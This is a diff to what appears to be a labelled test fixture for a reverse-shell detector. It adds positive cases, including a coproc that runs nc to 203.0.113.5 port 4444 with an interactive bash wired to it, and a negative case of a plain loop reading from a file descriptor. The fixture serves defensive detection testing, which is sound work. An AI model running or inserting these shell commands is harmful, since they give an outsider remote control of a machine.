@@ -36,3 +36,10 @@ nc example.com 7 | grep pong
 socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80
 #@ neg the command in a string
 echo "nc -e /bin/sh host 4444"
+#@ pos a shell wired to a coproc running nc
+coproc N { nc 203.0.113.5 4444; }
+bash -i <&"${N[0]}" >&"${N[1]}" 2>&1
+#@ pos a shell reading code from an fd variable
+sh <&"$fd"
+#@ neg a loop reading from fd 3
+while read -r line; do echo "$line"; done <&3
